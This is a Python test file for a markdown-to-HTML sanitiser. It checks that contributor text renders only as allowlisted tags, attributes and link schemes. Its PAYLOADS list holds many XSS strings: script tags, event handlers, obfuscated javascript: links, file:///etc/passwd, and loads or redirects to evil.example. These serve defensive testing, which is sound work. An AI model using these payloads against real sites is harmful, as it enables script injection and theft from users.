"""Texts of contributors become HTML that can do nothing but be read."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from metodbank.markdown import to_html

TAGS = {
    *("p", "br", "em", "strong", "del", "ul", "ol", "li", "blockquote", "code", "pre", "hr", "a"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}, "th": {"class"}, "td": {"class"}}
CLASSES = {"to-center", "to-end"}
SCHEMES = ("http://", "https://", "mailto:", "tel:")


class Reader(HTMLParser):
    """Reads HTML as a browser does and keeps every tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def tags_of(html: str) -> list[tuple[str, dict[str, str]]]:
    """Return the tags, all of which are allowed with all that they carry."""
    tags = Reader(html).tags
    for tag, attributes in tags:
        assert tag in TAGS, html
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), html
        assert set(attributes.get("class", "").split()) <= CLASSES, html
        if tag == "a" and "href" in attributes:
            assert attributes["href"].lower().startswith(SCHEMES), html
            assert attributes["rel"] == "noopener noreferrer"
    return tags


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><math><mtext></mtext></math></svg>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<!-- x --><!DOCTYPE x><?php x ?><![CDATA[x]]>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=x><button>x</button></form>",
    "<p style='position:fixed' class=md-header id=x data-slot=counts>x</p>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/index.html)",
    "[x](../../x)",
    "[x](?x)",
    "[x](#x)",
    "[x]()",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    '[x](https://example.org "t\\" onmouseover=alert(1) x=\\"")',
    '[x](https://example.org "<script>alert(1)</script>")',
    '[x](https://example.org/"onmouseover=alert(1))',
    "[x](https://example.org/%22%3E%3Cscript%3E)",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<h1>x</h1>\n\n<h3 id=x>x</h3>",
    '| a |\n|:-:|\n| <td align="right" onclick=x> |',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "{{ 7 * 7 }} {% raw %}",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_of_an_attacker_is_only_text(text: str) -> None:
    html = to_html(text)
    tags_of(html)
    assert "<script" not in html.lower()
    tags_of(to_html(f"> - {text}\n\n| a | b |\n|---|---|\n| {text} | x |\n"))


@given(st.lists(st.sampled_from([*PAYLOADS, *"<>&\"'`*_[]()#|\n ~-:", "а"]), max_size=12))
def test_any_mixture_of_them_is_only_text(pieces: list[str]) -> None:
    tags_of(to_html("".join(pieces)))


@given(st.text(max_size=200))
def test_any_text_is_only_text(text: str) -> None:
    tags_of(to_html(text))
